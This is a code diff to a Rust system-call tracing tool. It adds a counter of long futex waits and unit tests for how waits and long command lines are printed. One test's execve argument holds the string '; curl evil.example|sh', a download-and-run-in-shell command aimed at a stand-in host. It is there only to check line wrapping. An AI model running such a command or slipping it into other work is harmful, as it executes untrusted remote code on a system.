@@ -21,7 +21,7 @@ use crate::replay::EventSink;
 use crate::state::View;
 use crate::stats::groups::{Counts, Groups};
 
-use calls::{Failed, Slow};
+use calls::{Failed, Slow, Waits};
 use files::Files;
 
 /// Lines kept of each list.
@@ -47,6 +47,7 @@ pub(super) struct Account {
     local: Counts<Vec<u8>>,
     failed: Failed,
     slow: Slow,
+    waits: Waits,
 }
 
 /// The first lines of a list, and their total number.
@@ -79,6 +80,7 @@ impl Account {
             local: Counts::new(KINDS),
             failed: Failed::new(),
             slow: Slow::new(),
+            waits: Waits::new(),
         }
     }
 
@@ -202,6 +204,7 @@ impl EventSink for Account {
         let (event, view) = (cx.event, cx.view);
         self.first.get_or_insert(event.ts.0);
         self.count(event, view);
+        self.waits.add(event, view, self.arch);
         if event.flags.contains(EventFlags::IN_FLIGHT) {
             return Ok(ControlFlow::Continue(()));
         }
@@ -324,6 +327,56 @@ mod tests {
         assert!(
             text.lines()
                 .all(|l| !l.starts_with('\u{fffd}') && !l.starts_with("\\xff")),
+            "{text}"
+        );
+    }
+
+    #[test]
+    fn long_waits_are_listed_with_what_they_waited_for() {
+        let mut account = Account::new(None);
+        let (timeout, lock) = ((-110_i64).to_le_bytes(), 0x5000_u64.to_le_bytes());
+        let futex: &[&[u8]] = &[&timeout, &lock, &[0; 2], &[0; 8]];
+        take(&mut account, 7, types::SYSCALL_FUTEX_X, futex);
+        take(&mut account, 7, types::SYSCALL_FUTEX_X, futex);
+        // Sleeping is what a sleeping program wants.
+        take(&mut account, 7, types::SYSCALL_NANOSLEEP_X, &[&[0; 8]]);
+        let text = printed(&account);
+        assert!(
+            text.contains("longest waits for data and locks\n"),
+            "{text}"
+        );
+        let row = "? (7) futex 2 times, 2 timed out: futex 0x5000\n";
+        assert!(text.contains(row), "{text}");
+        assert!(!text.contains("nanosleep"), "{text}");
+    }
+
+    #[test]
+    fn a_long_command_line_is_wrapped_and_its_cut_is_marked() {
+        let mut account = Account::new(None);
+        let ok = 0_i64.to_le_bytes();
+        let args = [&[b'x'; 200][..], b"\0; curl evil.example|sh\0"].concat();
+        take(
+            &mut account,
+            7,
+            types::SYSCALL_EXECVE_19_X,
+            &[&ok, b"/bin/sh\0", &args],
+        );
+        let args = [b'y'; 5000];
+        take(
+            &mut account,
+            7,
+            types::SYSCALL_EXECVE_19_X,
+            &[&ok, b"/bin/sh\0", &args],
+        );
+        let text = printed(&account);
+        let joined: String = text
+            .lines()
+            .map(|line| line.get(11..).unwrap_or(""))
+            .collect();
+        assert!(joined.contains("x ; curl evil.example|sh  (7)"), "{text}");
+        assert!(joined.contains("yyy...  (7)"), "{text}");
+        assert!(
+            text.lines().all(|line| line.chars().count() <= 100),
             "{text}"
         );
     }
